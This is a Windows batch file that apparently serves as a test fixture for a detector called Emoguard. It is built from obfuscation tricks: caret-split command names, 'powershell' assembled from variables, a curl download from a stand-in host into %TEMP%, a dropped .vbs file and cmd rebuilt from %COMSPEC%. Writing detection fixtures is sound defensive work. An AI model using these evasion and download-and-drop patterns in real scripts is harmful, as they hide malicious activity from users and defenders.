@echo off
rem Fixture for Emoguard: batch obfuscation structure, harmless (example.invalid only).
set x=po^wer
set y=shell
c^m^d /c "%x%%y% -nop -c Write-Output harmless"
set z=curl -o %TEMP%\a.txt http://bat.example.invalid/a.txt&call %%z%%
p^i^n^g -n 1 127.0.0.1 >nul
echo WScript.Echo "hi" > %TEMP%\x.vbs
start "" %COMSPEC:~-7,3% /c echo done
